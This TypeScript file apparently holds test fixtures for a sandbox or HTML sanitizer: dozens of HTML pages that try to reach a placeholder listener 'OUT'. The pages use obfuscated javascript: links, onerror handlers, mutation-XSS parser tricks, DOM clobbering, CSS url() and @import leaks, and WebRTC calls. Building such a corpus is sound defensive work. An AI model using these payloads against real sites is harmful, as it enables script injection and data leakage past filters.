// Pages that try to leave the lab.

/** Bodies of pages; `OUT` is the listener's address and `HOST` its name and port. What has the id `go` is clicked with both buttons. */
export const PAGES: Readonly<Record<string, string>> = {
  link: '<a id=go href="OUT/a" ping="OUT/ping" target=_blank>x</a>',
  top: '<base target=_top href="OUT/"><a id=go href="b">x</a>',
  parent: '<a id=go href="OUT/" target=_parent>x</a>',
  script:
    '<a id=go href=" java\tscript:parent.location=\'OUT/\'">x</a><script>fetch("OUT/")</script><script src="OUT/x.js"></script>',
  data: '<a id=go href="data:text/html,<script>location=\'OUT/\'</script>" target=_top>x</a>',
  clobber:
    '<img name=addEventListener><img name=getElementById><img name=querySelectorAll><img name=body><a id=go href="OUT/">x</a>',
  fieldNames:
    '<form action="OUT/f"><input name=getAttribute value=1><input name=submit><input name=action><input name=querySelector><button id=go name=method>x</button></form>',
  fieldIds:
    '<form action="OUT/f" method=post><input id=getAttribute><input id=closest><input id=reportValidity><input id=hasAttribute><button id=go>x</button></form>',
  percent: '<a id=go href="#%">x</a>',
  percentBad: '<a id=go href="#%E0%A4%A">x</a><p id="%E0%A4%A">',
  badAddress: '<a id=go href="http://[">x</a>',
  badAction: '<form action="http://["><button id=go>x</button></form>',
  math: '<form><math><mtext></form><form><mglyph><style></math><img src="OUT/m" onerror="parent.location=\'OUT/\'"></style><a id=go href="OUT/">x</a>',
  svgStyle:
    '<svg></p><style><a id="</style><img src=OUT/s onerror=parent.x()>"></a></style></svg><math><mi><style><img src="OUT/t"></style></mi></math>',
  noscript: '<noscript><p title="</noscript><img src=OUT/n onerror=parent.x()>"></p><img src="OUT/n2"></noscript>',
  preconnect:
    '<link rel=preconnect href="OUT/"><link rel=dns-prefetch href="OUT/"><link rel=prefetch href="OUT/p"><link rel=modulepreload href="OUT/m"><link rel=preload as=image href="OUT/i"><link rel=icon href="OUT/icon"><link rel=manifest href="OUT/man"><link rel=prerender href="OUT/pre">',
  sheet: '<link rel=stylesheet href="OUT/a.css"><style>@import "OUT/b.css"; @\\69mport url(OUT/c.css);</style>',
  style:
    '<style>body{background:url(OUT/a)} p{background:u\\72l("OUT/b")} i{background:image-set("OUT/c" 1x)} @font-face{font-family:f;src:url(OUT/d)} b{font-family:f;--x:url(OUT/e);background:var(--x)}</style><p>x<i>y</i><b>z</b>',
  styleAttribute:
    '<p style="background:url(OUT/a)">x<i style="background:\\75rl(OUT/b)">y</i><b style="list-style:image-set(\'OUT/c\' 1x);cursor:url(OUT/d),auto">z</b>',
  spaces: `<style>a{b:url(${' '.repeat(3000)}${'url( '.repeat(3000)}</style><p style="background:url(${' '.repeat(3000)}">x`,
  pictures:
    '<img src="OUT/a" srcset="OUT/b 2x" lowsrc="OUT/c"><picture><source srcset="OUT/d"><img src="OUT/e"></picture><input type=image id=go src="OUT/f"><body background="OUT/g"><table background="OUT/h"><td background="OUT/i">x',
  media:
    '<video src="OUT/a" poster="OUT/b" autoplay></video><audio src="OUT/c" autoplay></audio><video><source src="OUT/d"><track src="OUT/e" default></video>',
  frames:
    '<iframe src="OUT/a"></iframe><iframe srcdoc="<img src=OUT/b>"></iframe><object data="OUT/c"></object><embed src="OUT/d"><frameset><frame src="OUT/e"></frameset>',
  refresh:
    '<meta http-equiv=refresh content="0;url=OUT/a"><meta http-equiv=Content-Security-Policy content="default-src *; report-uri OUT/r"><meta http-equiv=x-dns-prefetch-control content=on>',
  svg: '<svg onload="parent.x()"><image href="OUT/a" xlink:href="OUT/b"/><use href="OUT/c#x"/><a id=go xlink:href="OUT/d"><text y=20>x</text></a><rect fill="url(OUT/e#g)" width=9 height=9 /><animate attributeName=href values="OUT/f"/><foreignObject><img src="OUT/g"></foreignObject><filter id=f><feImage href="OUT/h"/></filter></svg>',
  template:
    '<template shadowrootmode=open><img src="OUT/a"></template><template><img src="OUT/b"></template><div><template shadowrootmode=open><style>:host{background:url(OUT/c)}</style></template></div>',
  events:
    '<body onload="parent.x()" onpageshow="parent.x()"><details open ontoggle="parent.x()"><img src=x onerror="parent.x()"><marquee onstart="parent.x()">x</marquee><input autofocus onfocus="parent.x()">',
  formaction:
    '<form><button id=go formaction="OUT/a" formmethod=post formtarget=_top>x</button></form><form id=f action="OUT/b"></form><input form=f>',
  map: '<img id=go usemap="#m" width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=default href="OUT/a" ping="OUT/b"></map>',
  forged: '<p id=go data-dd-href="OUT/a" data-dd-action="OUT/b">x</p>',
  deep: '<div>'.repeat(2000) + '<a id=go href="OUT/">x</a>',
  speculation:
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT/a"]}],"prerender":[{"source":"list","urls":["OUT/b"]}]}</script><a id=go href="OUT/c">x</a>',
  plaintext: '<plaintext><img src="OUT/a">',
  xmp: '<xmp><img src="OUT/a"></xmp><textarea></textarea><img src="OUT/b"><title></title><img src="OUT/c">',
  clobberDocument:
    '<img name=documentElement><img name=implementation><img name=createElement><img name=defaultView><form name=forms></form><img name=scrollingElement><img name=head><embed name=cookie><object name=location></object><a id=go href="OUT/">x</a>',
  clobberWindow:
    '<a id=parent></a><a id=MessageChannel name=postMessage></a><a id=document></a><form id=document name=body></form><a id=port></a><a id=go href="OUT/">x</a>',
  clobberForm:
    '<form action="OUT/f"><input name=attributes value=1><input name=nodeName><input name=parentNode><input name=children><input name=elements><input name=ownerDocument><input name=removeChild><input name=namespaceURI><input name=reportValidity><input name=noValidate><button id=go name=submit>x</button></form>',
  clobberOutside:
    '<form id=f action="OUT/f"></form><input form=f name=getAttributeNames><input form=f name=action><output form=f name=method></output><button id=go form=f name=closest>x</button>',
  mutation:
    '<select><style></select><img src="OUT/a" onerror=parent.x()></style></select><table><td><form><math><annotation-xml encoding="text/html"><style><img src="OUT/b"></style></annotation-xml></math></form></table><svg><desc><style><img src="OUT/c"></style></desc></svg>',
  mutationNested: `<form><div></form><form><table>${'<form></table><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=OUT/a onerror=parent.x()&gt;">'.repeat(4)}`,
  base: '<base href="OUT/"><base href="OUT/b/"><a id=go href="a">x</a><img src="i"><link rel=stylesheet href="s"><form action="f"><button>x</button></form>',
  comments:
    '<!--><img src="OUT/a">--><!--!><img src="OUT/b">--!><img src="OUT/c"><!---!><img src="OUT/d"><?xml-stylesheet href="OUT/e"?><!DOCTYPE html SYSTEM "OUT/f"></ x><img src="OUT/g">',
  cdata:
    '<![CDATA[<img src="OUT/a">]]><svg><![CDATA[</svg><img src="OUT/b" onerror=parent.x()>]]></svg><math><![CDATA[]]><img src="OUT/c"></math><svg><style><![CDATA[</style><img src="OUT/d">]]></style></svg>',
  scriptAddresses:
    '<a id=go href="&#106;ava&Tab;script&colon;parent.x()">x</a><a href="&#1;javascript:parent.x()">x</a><a href="java\nscript:parent.x()">x</a><a href="JaVaScRiPt://%0aparent.x()">x</a><a href="vbscript:x">x</a><svg><a xlink:href="javascript:parent.x()"><text y=9>x</text></a></svg><form action="javascript:parent.x()"><button formaction="javascript:parent.x()">x</button></form>',
  scriptHidden:
    '<scr\0ipt>parent.x()</script><svg><script href="OUT/a"/><script>parent.x()</script></svg><math><script>parent.x()</script></math><script src="OUT/b" async></script><script type=module>import "OUT/c"</script><script type=importmap>{"imports":{"x":"OUT/d"}}</script>',
  webrtc:
    '<script>new RTCPeerConnection({iceServers:[{urls:"stun:HOST"}]}).createDataChannel("x")</script><img src=x onerror="new RTCPeerConnection({iceServers:[{urls:\'stun:HOST\'}]}).createDataChannel(1)">',
  svgUse:
    '<svg><use href="OUT/a#x"/><use xlink:href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=OUT/b /></svg>#x"/><image xlink:href="OUT/c"/><script xlink:href="OUT/d"/><style>@import "OUT/e"; rect{fill:url(OUT/f#g)}</style><rect width=9 height=9 mask="url(OUT/h#m)" style="filter:url(OUT/i#f)"/><textPath href="OUT/j#p">x</textPath><mpath href="OUT/k#p"/></svg>',
  svgAnimated:
    '<svg width=90 height=40><a id=go><animate attributeName=href values="javascript:parent.x()"/><set attributeName=xlink:href to="OUT/a"/><animateTransform attributeName=href to="OUT/b" /><text y=20>x</text></a><image><animate attributeName=href to="OUT/c"/></image></svg>',
  svgForeign:
    '<svg><foreignObject><iframe src="OUT/a"></iframe><object data="OUT/b"></object><video poster="OUT/c"></video><body background="OUT/d"><img srcset="OUT/e"></foreignObject><handler>x</handler><listener handler="OUT/f#x"/></svg>',
  mathml:
    '<math href="OUT/a" xlink:href="OUT/b"><mtext><img src="OUT/c"></mtext><maction actiontype="statusline#OUT/d" id=go>x<mtext href="OUT/e">y</mtext></maction><annotation-xml encoding="application/xhtml+xml"><img src="OUT/f"></annotation-xml></math>',
  cssPlaces: `<style>${['cursor:url(OUT/a),auto', 'list-style:url(OUT/b)', 'border-image:url(OUT/c) 1', 'mask:url(OUT/d)', '-webkit-mask-image:url(OUT/e)', 'shape-outside:url(OUT/f)', 'filter:url(OUT/g#x)', 'clip-path:url(OUT/h#x)', 'offset-path:url(OUT/i#x)', 'content:url(OUT/j)', '-webkit-box-reflect:below 1px url(OUT/k)', 'background:cross-fade(url(OUT/l),url(OUT/m),50%)', 'background:-webkit-cross-fade(url(OUT/n),url(OUT/o),.5)', 'behavior:url(OUT/p)', '-moz-binding:url(OUT/q)'].map((d, n) => `.c${n},.c${n}::before{float:left;width:9px;height:9px;display:list-item;${d}}`).join('')}</style>${[...Array(15).keys()].map((n) => `<p class=c${n}>x`).join('')}`,
  cssRules:
    '<style>@import url(OUT/a) layer(x) supports(display:block) screen;@import"OUT/b";@IMPORT\n\'OUT/c\';@layer x;@import url("OUT/d");</style><style>@font-face{font-family:g;src:local(x),url(OUT/e) format("woff2"),src("OUT/f")}*{font-family:g}@page{background:url(OUT/g)}@counter-style z{system:cyclic;symbols:url(OUT/h) "x";}li{list-style:z}@property --p{syntax:"<image>";inherits:true;initial-value:url(OUT/i)}body{background:var(--p)}@supports (background:url(OUT/j)){body{background:url(OUT/j)}}@media all{a{background:url(OUT/k)}}@container (width>1px){a{background:url(OUT/l)}}@namespace url(OUT/m);</style><ul><li>x</ul><a id=go href="OUT/">x</a>',
  cssStrings:
    '<style>:root{--s:"OUT/a";--t:OUT/b;--u:url(OUT/c)}p{background:image-set(var(--s) 1x);background-image:url(var(--t)),var(--u);content:src(var(--s))}i{background:image-set("OUT/d" type("image/png") 1x,"OUT/e" 2x)}b{background:image("OUT/f")}u{background:attr(data-x type(<image>))}</style><p>x<i>x</i><b>x</b><u data-x="url(OUT/g)">x</u>',
  cssTricks:
    '<style>a{b:"\\\n";c:url(OUT/a)}p{background:\\55\\52\\4c(OUT/b)}p{background:url(/**/OUT/c)}p{d:"x\n;background:url(OUT/d)}p{e:url( \'OUT/e\' )}p{background:u\\\nrl(OUT/f)}p{background:ur\\6c\n(OUT/g)}<!-- p{background:url(OUT/h)} --></style><style media="print">p{background:url(OUT/i)}</style><p>x',
  sets: '<img srcset="OUT/a 1x, OUT/b 2x" sizes="100vw"><picture><source srcset="OUT/c" media="(min-width:1px)"><source srcset="OUT/d" type="image/webp"><img alt=x></picture><link rel=preload as=image imagesrcset="OUT/e 1x" href="OUT/f"><input type=image srcset="OUT/g" src="OUT/h">',
  hints:
    '<link rel="prefetch" href="OUT/a"><link rel="dns-prefetch preconnect" href="//HOST"><link rel="alternate stylesheet" title=x href="OUT/b"><link rel="next prefetch" href="OUT/c"><link rel="pingback" href="OUT/d"><link rel=search type=application/opensearchdescription+xml href="OUT/e"><link rel=compression-dictionary href="OUT/f"><link rel=apple-touch-icon href="OUT/g"><link rel=expect blocking=render href="#never"><link rel=stylesheet href="data:text/css,@import%20url(OUT/h);p{background:url(OUT/i)}"><p>x',
  olds: '<html manifest="OUT/a"><bgsound src="OUT/b"><applet code="OUT/c" archive="OUT/d"><param name=src value="OUT/e"></applet><layer src="OUT/f"></layer><isindex action="OUT/g"><keygen><image src="OUT/h"><img dynsrc="OUT/i" lowsrc="OUT/j"><blockquote cite="OUT/k">x</blockquote><del cite="OUT/l">x</del><head profile="OUT/m"><xml src="OUT/n">',
  embedded:
    '<portal src="OUT/a"></portal><fencedframe src="OUT/b"></fencedframe><webview src="OUT/c"></webview><iframe src="javascript:parent.x()"></iframe><iframe srcdoc="&lt;meta http-equiv=refresh content=\'0;url=OUT/d\'>"></iframe><object type=text/html data="OUT/e"><param name=movie value="OUT/f"><embed src="OUT/g"></object><object data="data:text/html,<img src=OUT/h>"></object><frameset onload=parent.x()><frame src="OUT/i">',
  targets:
    '<a id=go href="OUT/a" target=_top ping="OUT/b OUT/c" download=x rel=opener attributionsrc="OUT/d">x</a><form action="OUT/e" target=_blank method=post><button>x</button></form><form method=dialog action="OUT/f"><button>x</button></form><button command=show-modal commandfor=d>x</button><dialog id=d open><a href="OUT/g" target=page>x</a></dialog>',
  slots:
    '<div><template shadowrootmode=closed><link rel=stylesheet href="OUT/a"><slot name=x></slot></template><p slot=x is=x-y>y</p></div><x-y src="OUT/b"><template><script>parent.x()</script></template></x-y><template><template shadowrootmode=open><img src="OUT/c"></template></template>',
  wide: `${'<p>x'.repeat(8000)}<a id=go href="OUT/">x</a>`,
  misnested: `${'<b><p><i><table><a href="OUT/a">'.repeat(300)}<form>${'<svg><g>'.repeat(300)}<img src="OUT/b">`,
  attributes: `<p ${[...Array(1000).keys()].map((n) => `on${n}=parent.x() a${n}=OUT`).join(' ')} style="${'background:url(OUT/a);'.repeat(2000)}">x<p style style='x:url("OUT/b' id=" " name class="\u202e">y`,
};
